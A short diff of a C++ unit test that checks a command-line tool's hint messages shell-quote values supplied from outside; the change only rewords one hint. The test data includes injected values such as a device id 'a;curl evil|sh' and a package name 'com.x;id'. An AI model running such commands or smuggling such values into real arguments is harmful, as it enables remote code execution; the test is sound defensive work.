@@ -37,5 +37,5 @@ TEST_CASE("advice: a hint quotes what comes from outside", "[contract]") {
     CHECK(hint.find("--operator-package 'com.x;id") != hint.npos);
   }
   CHECK(absent_app_hint(device) ==
-        "See what is: clawperator packages list --device 'a;curl evil|sh'");
+        "List the packages: clawperator packages list --device 'a;curl evil|sh'");
 }
